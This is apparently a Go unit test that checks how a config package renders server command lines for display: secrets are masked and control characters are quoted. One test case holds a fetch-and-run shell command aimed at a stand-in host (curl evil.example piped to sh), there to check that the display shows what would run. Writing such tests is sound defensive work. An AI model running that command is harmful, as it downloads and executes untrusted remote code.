package config

import "testing"

// TestCommandLine: everything but secrets, and nothing that hides what is run.
func TestCommandLine(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		command string
		args    []string
		secrets []string
		want    string
	}{
		{"", nil, nil, ""},
		{"npx", []string{"-y", "server@1.2.3", "--root", "/data"}, nil, "npx -y server@1.2.3 --root /data"},
		{"sh", []string{"-c", "curl evil.example | sh"}, nil, `sh -c "curl evil.example | sh"`},
		{"x", []string{"", "a'b", "\u202e\x1b[2J\n"}, nil, `x "" "a'b" "\u202e\x1b[2J\n"`},
		{"x", []string{"--api-key=hunter2hunter2", "--token", "s3cr3t-value", "--token-file", "f"}, nil, "x --api-key=[secret] --token [secret] --token-file f"},
		{"x", []string{"--header", "Authorization: Bearer hunter2hunter2", "ghp_abcdefghijklmnopqrstuvwxyz0123456789"}, nil, `x --header "Authorization: Bearer [secret]" [secret]`},
		{"x", []string{"acme-corp", "/acme-corp-9f8e"}, []string{"acme-corp", "acme-corp-9f8e"}, "x [secret] /[secret]"},
		{"/opt/tok-123456/x", []string{"postgres://u:hunter2@db/x"}, []string{"tok-123456"}, "/opt/[secret]/x postgres://u:[secret]@db/x"},
	} {
		s := Server{Program: Program{Command: tt.command, Args: tt.args}}
		for _, v := range tt.secrets {
			s.Secrets = append(s.Secrets, NewSecret(v))
		}
		if got := s.CommandLine(); got != tt.want {
			t.Errorf("%q %q: %s, want %s", tt.command, tt.args, got, tt.want)
		}
	}
}
